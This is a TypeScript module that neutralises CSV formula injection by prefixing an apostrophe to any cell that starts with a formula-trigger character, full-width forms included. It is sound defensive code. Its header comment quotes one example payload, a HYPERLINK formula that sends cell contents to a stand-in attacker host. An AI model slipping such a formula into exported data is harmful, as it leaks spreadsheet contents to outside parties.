/**
 * CSV formula injection (OWASP "CSV Injection", CWE-1236): anyone holding a public tracking code
 * can send an event name, URL or property such as `=HYPERLINK("https://evil.example/?"&A1)`, and a
 * spreadsheet opening the export would run it. A cell that starts with a character spreadsheets
 * read as the start of a formula gets a leading `'`, which they take as "this is text" and do
 * not display. Applied to every cell of every column, so a column added later is covered too.
 */

/**
 * OWASP's list (`=`, `+`, `-`, `@`, tab, carriage return), plus line feed and NUL (ASVS 1.2.10),
 * and the full-width forms of the four signs, which some spreadsheets in East Asian locales
 * also read as formula starts.
 */
export const formulaTriggers: ReadonlySet<string> = new Set([
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '\0',
  '\uFF1D', // ＝ full-width equals sign
  '\uFF0B', // ＋ full-width plus sign
  '\uFF0D', // － full-width hyphen-minus
  '\uFF20', // ＠ full-width commercial at
]);

/**
 * The text a spreadsheet shows as typed: `'` before a leading formula trigger, anything else
 * unchanged. Negative numbers (`-5`) are neutralised too: a sheet shows them as text, which is
 * the price of one rule with no guessing about what is "only a number".
 */
export function spreadsheetSafe(text: string): string {
  return text.length > 0 && formulaTriggers.has(text.charAt(0)) ? `'${text}` : text;
}
